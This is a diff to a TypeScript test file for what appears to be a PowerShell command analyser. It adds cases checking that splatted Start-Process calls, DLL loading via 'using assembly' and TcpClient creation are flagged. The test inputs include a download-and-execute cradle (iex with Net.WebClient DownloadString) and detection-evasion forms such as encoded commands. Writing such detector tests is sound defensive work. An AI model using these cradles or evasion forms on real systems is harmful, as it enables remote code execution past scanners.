@@ -186,6 +186,9 @@ const INVOCATION: Case[] = [
   ['iwr$(1) x', [], 'vouch.dynamic-command'],
   ['echo --% a b | iwr https://x', ['invoke-webrequest', 'write-output'], null],
   ['echo --% a | iex', ['invoke-expression', 'write-output'], 'vouch.dynamic-script'],
+  ["$p = @{ FilePath = 'curl' }; Start-Process @p", ['start-process'], 'vouch.dynamic-script'],
+  ['iwr @p', ['invoke-webrequest'], null],
+  ['using assembly .\\x.dll', ['using'], 'vouch.dynamic-code'],
 ];
 
 const NESTED: Case[] = [
@@ -401,6 +404,8 @@ describe('.NET type uses', () => {
     ['$x = [Environment]::UserName', { type: 'environment', member: 'username' }],
     ['iex(New-Object Net.WebClient).DownloadString("https://x")', { type: 'net.webclient' }],
     [`powershell -enc ${enc('[Net.WebClient]::new()')}`, { type: 'net.webclient', member: 'new' }],
+    ['using namespace System.Net; [WebClient]::new()', { type: 'net.webclient', member: 'new' }],
+    ['using namespace System.Net.Sockets\nNew-Object TcpClient', { type: 'net.sockets.tcpclient' }],
   ];
   it.each(cases)('%s', (command, use) => {
     const uses = run(command).typeUses.map((u) => (u.member ? { type: u.type, member: u.member } : { type: u.type }));
